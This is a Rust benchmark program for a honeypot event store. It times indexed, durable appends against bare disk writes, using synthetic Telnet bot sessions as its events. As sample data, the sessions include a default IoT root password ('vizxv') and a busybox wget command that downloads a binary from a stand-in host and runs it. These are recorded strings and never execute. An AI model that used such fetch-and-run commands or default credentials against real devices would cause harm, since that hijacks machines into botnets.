//! How many events per second the store takes, indexed and durable, beside the bare
//! disk writing the same bytes with the same number of syncs.
//!
//! `cargo run --release -p ukai-store --example append_rate -- [SESSIONS] [FOLDER]`
//! prints one JSON object. Events are those of a Telnet bot's visit, six a session,
//! from 2,000 sources, given to the store as a sensor does (`enqueue`, one session at a
//! time).

use std::fs::File;
use std::io::Write as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::time::{Instant, SystemTime};
use ukai_model::{
    CloseReason, Event, EventId, EventKind, Flow, SCHEMA_VERSION, SessionId, Timestamp, Transport,
};
use ukai_store::{Store, StoreConfig};

/// Events per sync of the bare disk: as many as the store puts into a batch under load.
const BATCH: usize = 4_096;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut arguments = std::env::args().skip(1);
    let sessions: u32 = arguments.next().map_or(Ok(100_000), |text| text.parse())?;
    let folder = arguments.next().map_or_else(std::env::temp_dir, PathBuf::from);
    let folder = folder.join(format!("ukai-append-rate-{}", std::process::id()));
    std::fs::create_dir_all(&folder)?;
    let result = measure(&folder, sessions);
    std::fs::remove_dir_all(&folder)?;
    result
}

fn measure(folder: &Path, sessions: u32) -> Result<(), Box<dyn std::error::Error>> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let events = u64::from(sessions) * 6;
    let cpu_before = cpu_s();
    let started = Instant::now();
    runtime.block_on(store_all(&folder.join("store"), sessions))?;
    let store_s = started.elapsed().as_secs_f64();
    let cpu_s = cpu_s() - cpu_before;

    let lines: Vec<Vec<u8>> = (0..2_000u32)
        .flat_map(|n| visit(n, Timestamp::from(SystemTime::now())))
        .map(|event| serde_json::to_vec(&event))
        .collect::<Result<_, _>>()?;
    let started = Instant::now();
    let bytes = write_bare(&folder.join("bare"), &lines, events)?;
    let bare_s = started.elapsed().as_secs_f64();

    println!(
        "{{\"events\": {events}, \"bytes\": {bytes}, \"store_events_per_s\": {:.0}, \
         \"cpu_us_per_event\": {:.2}, \"events_per_cpu_s\": {:.0}, \
         \"bare_events_per_s\": {:.0}, \"store_to_bare\": {:.3}}}",
        events as f64 / store_s,
        cpu_s * 1e6 / events as f64,
        events as f64 / cpu_s,
        events as f64 / bare_s,
        bare_s / store_s,
    );
    Ok(())
}

async fn store_all(dir: &Path, sessions: u32) -> Result<(), Box<dyn std::error::Error>> {
    let store = Store::open(dir, StoreConfig::default())?;
    for n in 0..sessions {
        store.enqueue(visit(n, Timestamp::from(SystemTime::now()))).await?;
    }
    store.submit(visit(sessions, Timestamp::from(SystemTime::now()))).await?;
    let found = store.totals().await?.events;
    assert_eq!(found, (u64::from(sessions) + 1) * 6, "events are missing");
    store.close().await?;
    Ok(())
}

fn write_bare(path: &Path, lines: &[Vec<u8>], events: u64) -> std::io::Result<u64> {
    let mut file = File::create(path)?;
    let (mut bytes, mut buffer) = (0, Vec::new());
    for (n, line) in (1..=events).zip(lines.iter().cycle()) {
        buffer.extend_from_slice(line);
        if n % BATCH as u64 == 0 || n == events {
            file.write_all(&buffer)?;
            file.sync_data()?;
            bytes += buffer.len() as u64;
            buffer.clear();
        }
    }
    Ok(bytes)
}

fn visit(n: u32, time: Timestamp) -> Vec<Event> {
    let session = SessionId::new(time, mix(n, 99));
    let source = Ipv4Addr::from(0xcb00_7100 + (n.wrapping_mul(2_654_435_761) % 2_000));
    let flow = Flow::new(
        Transport::Tcp,
        SocketAddr::new(IpAddr::V4(source), 40_000),
        SocketAddr::from(([198, 51, 100, 1], 23)),
    );
    let telnet = || "telnet".to_owned();
    let kinds = [
        EventKind::SessionOpen { protocol: telnet(), persona: "router-mips".into() },
        EventKind::LoginAttempt {
            protocol: telnet(),
            user: "root".into(),
            password: format!("pass{}", n % 300).as_str().into(),
            method: None,
            proof: None,
            success: false,
        },
        EventKind::LoginAttempt {
            protocol: telnet(),
            user: "root".into(),
            password: "vizxv".into(),
            method: None,
            proof: None,
            success: true,
        },
        EventKind::CommandInput { line: "enable; system; shell; sh".into(), unknown: Vec::new() },
        EventKind::CommandInput {
            line: "/bin/busybox wget http://203.0.113.9/arm7 -O- >.x; chmod +x .x; ./.x".into(),
            unknown: vec!["system".into()],
        },
        EventKind::SessionClose {
            protocol: telnet(),
            reason: CloseReason::Peer,
            duration_ms: 1_200,
            bytes_in: 230,
            bytes_out: 3_100,
            recorded: true,
        },
    ];
    let make = |(i, kind)| Event {
        v: SCHEMA_VERSION,
        id: EventId::new(time, mix(n, i)),
        time,
        sensor: "bench".parse().expect("a sensor name"),
        session: Some(session),
        flow: Some(flow),
        kind,
    };
    (0..).zip(kinds).map(make).collect()
}

/// Scatters a number, so that identities are as unordered as random ones.
fn mix(n: u32, i: u32) -> u128 {
    let seed = u64::from(n) << 8 | u64::from(i);
    u128::from(
        seed.wrapping_mul(0x9e37_79b9_7f4a_7c15)
            .rotate_left(31)
            .wrapping_mul(0xbf58_476d_1ce4_e5b9),
    )
}

/// CPU time of this process, in seconds, to the hundredth (proc(5): utime and stime).
fn cpu_s() -> f64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let after_name = stat.rsplit(')').next().unwrap_or_default();
    let ticks = after_name.split_whitespace().skip(11).take(2);
    ticks.filter_map(|ticks| ticks.parse::<f64>().ok()).sum::<f64>() / 100.0
}
